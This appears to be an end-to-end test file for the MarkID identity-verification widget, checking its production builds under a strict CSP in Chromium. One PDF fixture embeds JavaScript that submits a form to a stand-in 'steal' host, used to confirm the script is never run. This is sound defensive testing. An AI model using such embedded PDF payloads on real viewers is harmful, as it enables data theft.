import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { build } from 'vite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig } from '../../server/config.ts';
import { contentSecurityPolicy } from '../../server/securityHeaders.ts';
import { createSite, listen, type RunningSite } from '../../server/site.ts';
import { encodeHeic } from '../browser/heicFixture.ts';
import { CHROMIUM_ARGS, FAKE_CAMERA, findChromium } from '../chromium.ts';
import { writeFaceVideo } from '../quality/fakeCameraVideo.ts';
import { makePdf } from '../pdfWriter.ts';
import { toFirstPhoto } from './harness.ts';

/**
 * The production builds as a merchant deploys them: the hosted page (vite.config.ts) and the
 * script-tag bundle (vite.standalone.config.ts) in the plain HTML example, each served by the
 * reference backend under the strict security headers, walked in Chromium to a sent submission.
 */
const root = fileURLToPath(new URL('../..', import.meta.url));
let out: string;
let browser: Browser;
let hosted: RunningSite;
let merchant: RunningSite;

beforeAll(async () => {
  out = await mkdtemp(join(tmpdir(), 'markid-builds-'));
  const quiet = { logLevel: 'warn' as const, root };
  await build({ ...quiet, configFile: join(root, 'vite.config.ts'), build: { outDir: join(out, 'hosted'), emptyOutDir: true } });
  await build({ ...quiet, configFile: join(root, 'vite.standalone.config.ts'), build: { outDir: join(out, 'standalone'), emptyOutDir: true } });
  const config = loadConfig({});
  hosted = await listen(createSite(config, { mounts: [{ urlPrefix: '/', dir: join(out, 'hosted') }] }), 0);
  merchant = await listen(
    createSite(config, {
      mounts: [
        { urlPrefix: '/markid/', dir: join(out, 'standalone') },
        { urlPrefix: '/', dir: join(root, 'examples/plain-html') },
      ],
    }),
    0,
  );
  browser = await chromium.launch({ executablePath: findChromium(), args: CHROMIUM_ARGS });
});

afterAll(async () => {
  await browser?.close();
  await hosted?.close();
  await merchant?.close();
  if (out) await rm(out, { recursive: true, force: true });
});

interface Watch {
  problems: string[];
  foreign: string[];
}

/** Console errors and warnings, uncaught exceptions, CSP violations, and requests leaving `origin`. */
async function watch(context: BrowserContext, origin: string): Promise<Watch> {
  const seen: Watch = { problems: [], foreign: [] };
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => console.error(`CSP violation: ${event.violatedDirective} ${event.blockedURI}`));
  });
  context.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith('blob:') && !url.startsWith('data:') && new URL(url).origin !== origin) seen.foreign.push(url);
  });
  context.on('page', (page) => {
    page.on('console', (message) => {
      if (message.type() === 'error' || message.type() === 'warning') seen.problems.push(`${message.type()}: ${message.text()}`);
    });
    page.on('pageerror', (error) => seen.problems.push(`pageerror: ${error.message}`));
  });
  return seen;
}

/** A 2400×1600 PNG drawn in the browser: a PNG is always re-encoded, so the worker does real work. */
async function pngPhoto(page: Page, hue: number): Promise<Buffer> {
  const base64 = await page.evaluate(async (h) => {
    const canvas = new OffscreenCanvas(2400, 1600);
    const g = canvas.getContext('2d')!;
    g.fillStyle = `hsl(${h} 40% 45%)`;
    g.fillRect(0, 0, 2400, 1600);
    g.fillStyle = '#f4f1ea';
    g.fillRect(500, 400, 1400, 880);
    g.fillStyle = '#223';
    g.font = '64px sans-serif';
    for (let line = 0; line < 8; line += 1) g.fillText(`LINE ${line} <<<<<<${h}<<<<<<`, 560, 500 + line * 96);
    const blob = await canvas.convertToBlob({ type: 'image/png' });
    const bytes = new Uint8Array(await blob.arrayBuffer());
    let binary = '';
    for (let i = 0; i < bytes.length; i += 0x8000) binary += String.fromCharCode(...bytes.subarray(i, i + 0x8000));
    return btoa(binary);
  }, hue);
  return Buffer.from(base64, 'base64');
}

/**
 * An iPhone-style HEIC (HEVC in HEIF, made in Node by test/browser/heicFixture.ts): a card on a
 * desk. Chromium cannot decode it, so the worker loads the libheif chunk under the page's CSP.
 */
function heicPhoto(): { name: string; mimeType: string; buffer: Buffer } {
  const width = 1600;
  const height = 1200;
  const rgba = new Uint8Array(width * height * 4);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const card = x > 300 && x < 1300 && y > 300 && y < 930;
      const text = card && y > 400 && y < 850 && (y >> 4) % 3 === 0 && (x >> 3) % 5 !== 0;
      const i = (y * width + x) * 4;
      rgba.set(text ? [30, 30, 50, 255] : card ? [236, 232, 220, 255] : [120 + (x % 40), 90, 70, 255], i);
    }
  }
  return { name: 'IMG_0001.HEIC', mimeType: 'image/heic', buffer: Buffer.from(encodeHeic(rgba, width, height)) };
}

type Upload = Buffer | { name: string; mimeType: string; buffer: Buffer };

/** Instructions → country → document → three photos → review → submit, by role, in English. */
async function walkToDone(ui: Page, photos: Upload[]) {
  await toFirstPhoto(ui);
  for (const [index, photo] of photos.entries()) {
    const file = Buffer.isBuffer(photo) ? { name: `photo-${index}.png`, mimeType: 'image/png', buffer: photo } : photo;
    await ui.locator('input[type=file]').first().setInputFiles(file);
    await ui.getByText(/Photo ready/).waitFor({ timeout: 60_000 });
    await ui.getByRole('button', { name: 'Continue' }).click();
  }
  await ui.getByRole('heading', { name: 'Check your photos' }).waitFor();
  await ui.getByRole('button', { name: 'Submit' }).click();
  await ui.getByRole('heading', { name: 'Thank you, your photos were sent' }).waitFor({ timeout: 60_000 });
}

describe('the production hosted page', () => {
  it('is built without inline script or style', async () => {
    const html = await readFile(join(out, 'hosted/index.html'), 'utf8');
    expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/);
    expect(html).not.toMatch(/<style|\sstyle=/);
  });

  it('answers with the strict security headers', async () => {
    for (const path of ['/', '/api/session']) {
      const response = await fetch(`${hosted.origin}${path}`, path === '/' ? {} : { method: 'POST' });
      expect(response.headers.get('content-security-policy')).toBe(contentSecurityPolicy());
      expect(response.headers.get('permissions-policy')).toMatch(/^camera=\(self\)/);
      expect(response.headers.get('referrer-policy')).toBe('no-referrer');
    }
    // 'wasm-unsafe-eval' (WebAssembly for the HEIC decoder) is allowed; JavaScript eval and inline code are not.
    expect(contentSecurityPolicy()).not.toMatch(/'unsafe-inline'|'unsafe-eval'/);
  });

  it('runs a whole verification under its CSP with zero console errors and no request to another origin', async () => {
    const context = await browser.newContext({ viewport: { width: 390, height: 844 } });
    const seen = await watch(context, hosted.origin);
    const page = await context.newPage();
    const chunks: string[] = [];
    page.on('request', (request) => chunks.push(request.url()));
    await page.goto(`${hosted.origin}/?locale=en`);
    await page.getByRole('heading', { level: 1, name: 'Before you start' }).waitFor();
    const photos = await Promise.all([10, 120].map((hue) => pngPhoto(page, hue)));
    expect(chunks.some((url) => url.includes('libheif'))).toBe(false);
    // The selfie step gets an iPhone HEIC: converted in the worker by the lazily loaded decoder.
    await walkToDone(page, [...photos, heicPhoto()]);
    expect(chunks.filter((url) => url.includes('libheif')).length).toBe(1);
    await page.getByRole('heading', { name: 'Sandbox: what the vendor received' }).waitFor();
    expect(seen.problems).toEqual([]);
    expect(seen.foreign).toEqual([]);
    await context.close();
  });

  it('loads the face detector on the selfie step only, from its own origin, under the CSP, and takes the selfie by itself', async () => {
    const video = join(out, 'face.y4m');
    await writeFaceVideo(video, 'face');
    const camera = await chromium.launch({ executablePath: findChromium(), args: [...CHROMIUM_ARGS, FAKE_CAMERA, `--use-file-for-fake-video-capture=${video}`] });
    try {
      const context = await camera.newContext({ viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true, permissions: ['camera'] });
      const seen = await watch(context, hosted.origin);
      const page = await context.newPage();
      const requests: string[] = [];
      page.on('request', (request) => requests.push(request.url()));
      const faceChunks = () => requests.filter((url) => /\/faceDetector-[\w-]+\.js$/.test(url));
      await page.goto(`${hosted.origin}/?locale=en`);
      await toFirstPhoto(page, 'Passport');
      await page.getByRole('button', { name: 'Upload a file instead' }).click({ timeout: 30_000 });
      await page.locator('input[type=file]').first().setInputFiles({ name: 'passport.png', mimeType: 'image/png', buffer: await pngPhoto(page, 200) });
      await page.getByText(/Photo ready/).waitFor({ timeout: 60_000 });
      // The passport's camera ran its checks without the detector.
      expect(faceChunks()).toEqual([]);
      await page.getByRole('button', { name: 'Continue' }).click();
      await page.getByText('The photo was taken automatically.', { exact: true }).waitFor({ timeout: 60_000 });
      expect(faceChunks()).toHaveLength(1);
      expect(seen.problems).toEqual([]);
      expect(seen.foreign).toEqual([]);
      await context.close();
    } finally {
      await camera.close();
    }
  });

  it('loads another language as its own chunk under the same policy', async () => {
    const context = await browser.newContext();
    const seen = await watch(context, hosted.origin);
    const page = await context.newPage();
    await page.goto(`${hosted.origin}/?locale=lt`);
    await page.getByRole('heading', { level: 1, name: 'Prieš pradėdami' }).waitFor();
    expect(seen.problems).toEqual([]);
    expect(seen.foreign).toEqual([]);
    await context.close();
  });
});

describe('PDFs on the production hosted page', () => {
  it('reads them with pdf.js from its own origin under the CSP: a form and a script drawn, never run, and one over budget sent as its page', async () => {
    const site = await listen(createSite(loadConfig({ MARKID_TOKEN_DEFAULTS: JSON.stringify({ utilityBill: true }) }), { mounts: [{ urlPrefix: '/', dir: join(out, 'hosted') }] }), 0);
    const context = await browser.newContext({ viewport: { width: 390, height: 844 } });
    const seen = await watch(context, site.origin);
    const page = await context.newPage();
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    try {
      await page.goto(`${site.origin}/?locale=en`);
      await page.getByRole('heading', { level: 1, name: 'Before you start' }).waitFor();
      const photos = await Promise.all([10, 120, 200].map((hue) => pngPhoto(page, hue)));
      await toFirstPhoto(page);
      for (const [index, photo] of photos.entries()) {
        await page.locator('input[type=file]').first().setInputFiles({ name: `photo-${index}.png`, mimeType: 'image/png', buffer: photo });
        await page.getByText(/Photo ready/).waitFor({ timeout: 60_000 });
        await page.getByRole('button', { name: 'Continue' }).click();
      }
      await page.getByRole('heading', { name: 'Proof of address' }).waitFor();
      expect(requests.filter((url) => /pdf/i.test(new URL(url).pathname))).toEqual([]);
      const pages = [{ text: ['EXAMPLE BANK', 'Ona Petraityte, Gedimino pr. 1-23, Vilnius'], field: 'ONA PETRAITYTE' }, { text: ['Page two'] }];
      const script = "app.alert('ran'); this.submitForm('https://example.invalid/steal');";
      const small = Buffer.from(makePdf(pages, { script }));
      await page.locator('input[type=file]').first().setInputFiles({ name: 'export.pdf', mimeType: 'application/pdf', buffer: small });
      await page.getByText(/PDF ready: export\.pdf, .* 2 pages\./).waitFor({ timeout: 60_000 });
      await page.getByRole('img', { name: 'First page of export.pdf' }).waitFor();
      // The same statement padded to the size of a scan: over this step's budget.
      const large = Buffer.from(makePdf(pages, { script, padding: 5_000_000 }));
      await page.locator('input[type=file]').first().setInputFiles({ name: 'scan.pdf', mimeType: 'application/pdf', buffer: large });
      await page.getByText(/^Page 1 of 2 from scan\.pdf will be sent as a picture/).waitFor({ timeout: 60_000 });
      const pdfFiles = requests.filter((url) => /pdf/i.test(new URL(url).pathname)).map((url) => new URL(url).pathname);
      expect(pdfFiles.some((path) => /pdf\.worker-[\w-]+\.js$/.test(path))).toBe(true);
      expect(pdfFiles.some((path) => /pdfDocument-[\w-]+\.js$/.test(path))).toBe(true);
      await page.getByRole('button', { name: 'Continue' }).click();
      await page.getByRole('heading', { name: 'Check your photos' }).waitFor();
      await page.getByRole('button', { name: 'Submit' }).click();
      await page.getByRole('heading', { name: 'Thank you, your photos were sent' }).waitFor({ timeout: 60_000 });
      const received = await (await fetch(`${site.origin}/api/sandbox/last-submission`)).json();
      expect(received.images.UTILITY_BILL).toMatchObject({ type: 'jpeg', width: 1653, height: 2339 });
      expect(seen.problems).toEqual([]);
      expect(seen.foreign).toEqual([]);
    } finally {
      await context.close();
      await site.close();
    }
  });
});

describe('the script tag in the plain HTML example', () => {
  it('renders <markid-onboarding> in a shadow root that the page styles cannot reach, and reports by events', async () => {
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    const seen = await watch(context, merchant.origin);
    const page = await context.newPage();
    await page.goto(`${merchant.origin}/`);
    // Playwright's role locators pierce open shadow roots, as assistive technology does.
    const title = page.getByRole('heading', { level: 1, name: 'Before you start' });
    await title.waitFor();
    const look = await title.evaluate((heading) => {
      const style = getComputedStyle(heading);
      return { inShadow: heading.getRootNode() instanceof ShadowRoot, font: style.fontFamily, transform: style.textTransform };
    });
    expect(look).toEqual({ inShadow: true, font: expect.not.stringMatching(/Georgia/), transform: 'none' });
    // Themed from outside through ::part(root).
    const primary = await page.getByRole('button', { name: 'Start' }).evaluate((button) => getComputedStyle(button).backgroundColor);
    expect(primary).toBe('rgb(122, 31, 31)');
    // Nothing of the widget's stylesheet is in the page itself.
    expect(await page.evaluate(() => [...document.styleSheets].every((sheet) => !sheet.href || !sheet.href.includes('markid')))).toBe(true);
    expect(await page.evaluate(() => document.querySelectorAll('style, [class^="mk-"]').length)).toBe(0);

    const events: string[] = [];
    await page.exposeFunction('recordEvent', (name: string) => events.push(name));
    await page.evaluate(() => {
      for (const name of ['markid-complete', 'markid-step-change', 'markid-exit']) {
        document.addEventListener(name, () => (window as unknown as { recordEvent(name: string): void }).recordEvent(name));
      }
    });
    const photos = await Promise.all([40, 160].map((hue) => pngPhoto(page, hue)));
    await walkToDone(page, [...photos, photos[0]!]);
    await page.getByRole('button', { name: 'Finish' }).click();
    await page.getByText(/Your documents were sent \(reference [\w-]+\)/).waitFor();
    expect(await page.locator('markid-onboarding').count()).toBe(0);
    expect(events).toContain('markid-complete');
    expect(events.at(-1)).toBe('markid-exit');
    expect(seen.problems).toEqual([]);
    expect(seen.foreign).toEqual([]);
    await context.close();
  });

  it('MarkIdOnboarding.mount() puts a widget in place and its unmount takes it away', async () => {
    const context = await browser.newContext();
    const seen = await watch(context, merchant.origin);
    const page = await context.newPage();
    await page.goto(`${merchant.origin}/`);
    await page.getByRole('heading', { level: 1, name: 'Before you start' }).waitFor();
    // Closing on the first screen asks nothing; the page then offers to start again with mount().
    await page.getByRole('button', { name: 'Close' }).click();
    await page.getByText('You can verify your identity later').waitFor();
    await page.getByRole('button', { name: 'Verify my identity' }).click();
    await page.getByRole('heading', { level: 1, name: 'Before you start' }).waitFor();
    await page.getByRole('button', { name: 'Close' }).click();
    await expect.poll(() => page.locator('markid-onboarding').count()).toBe(0);
    await page.getByRole('button', { name: 'Verify my identity' }).waitFor();
    expect(seen.problems).toEqual([]);
    expect(seen.foreign).toEqual([]);
    await context.close();
  });
});
